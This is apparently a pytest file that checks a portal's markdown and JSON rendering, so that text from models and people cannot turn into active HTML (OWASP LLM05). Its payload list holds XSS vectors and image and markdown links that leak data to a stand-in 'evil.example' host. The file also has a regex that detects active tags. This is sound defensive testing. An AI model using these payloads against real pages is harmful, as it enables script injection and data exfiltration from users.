"""Text of models and people never becomes markup that acts: OWASP LLM05, row 9 of the threat list."""

import re

import pytest

from portal.core.templatetags.ui import texts
from portal.core.ui import json_tree, markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=https://evil.example/leak?q=1>",
    "![x](https://evil.example/leak?q=1)",
    "![x][1]\n\n[1]: https://evil.example/leak",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<div hx-get='/secrets' hx-trigger='load'>x</div>",
    "<div data-hx-post='/o/demo/runs/' data-hx-trigger='load'></div>",
    "<form action='https://evil.example'><input name=a></form>",
    "<iframe src='https://evil.example'></iframe>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed' onclick='alert(1)'>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<https://evil.example/?q=<script>alert(1)</script>>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<details open ontoggle=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<button data-dialog-open='confirm' data-copy='x'>x</button>",
]
ACTIVE_TAGS = re.compile(
    r"<(script|img|iframe|svg|style|form|input|object|embed|base|meta|link|math|button|details|div)\b", re.I
)
ATTRIBUTE = re.compile(r"<\w+[^>]*?\s([\w-]+)=", re.I)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_of_a_model_cannot_act(payload: str) -> None:
    html = markdown.to_html(payload)
    assert not ACTIVE_TAGS.search(html.replace('<div class="prose-table">', ""))
    for tag in re.findall(r"<[a-z][^>]*>", html.replace('<div class="prose-table">', "")):
        names = set(re.findall(r'\s([\w-]+)="', tag))
        assert names <= {"href", "title", "rel", "align", "start"}
        assert not re.search(r'href="(?!https?://)', tag)


def test_links_open_without_a_handle_on_our_page() -> None:
    assert markdown.to_html("[guide](https://example.com/a)") == (
        '<p><a href="https://example.com/a" rel="noopener noreferrer nofollow">guide</a></p>\n'
    )


def test_headings_go_one_down_and_alignment_needs_no_style_attribute() -> None:
    html = markdown.to_html("# Title\n\n| a |\n|--:|\n| 1 |")
    assert "<h2>Title</h2>" in html
    assert 'align="right"' in html
    assert "style" not in html


def test_htmx_is_off_inside() -> None:
    assert texts.model_markdown("text").startswith('<div class="model-output prose" hx-disable')


def test_very_long_text_is_cut_and_says_so() -> None:
    assert "cut here" in markdown.to_html("word " * 100_000)


def test_json_is_escaped_everywhere() -> None:
    html = texts.json_view(
        {"<b>key": "<img src=x onerror=alert(1)>", "list": ["</script>", None, True, 1.5]}, "<i>label"
    )
    assert "<img" not in html
    assert "<b>" not in html
    assert "<i>" not in html
    assert "</script>" not in html


def test_a_long_list_is_cut_and_the_rest_is_counted() -> None:
    root = json_tree.entry(list(range(500)))
    assert len(root.children) == json_tree.MAX_ENTRIES
    assert root.left_out == 300
    assert root.summary == "[500 items]"


def test_a_huge_value_is_cut_in_all() -> None:
    html = texts.json_view([[{"a": number} for number in range(100)] for _ in range(100)])
    assert html.count("<li>") <= json_tree.MAX_ALL
    assert "more; copy to see them" in html


def test_a_hostile_depth_does_not_break_the_page() -> None:
    value: object = "end"
    for _ in range(500):
        value = [value]
    assert "json-tree" in texts.json_view(value)
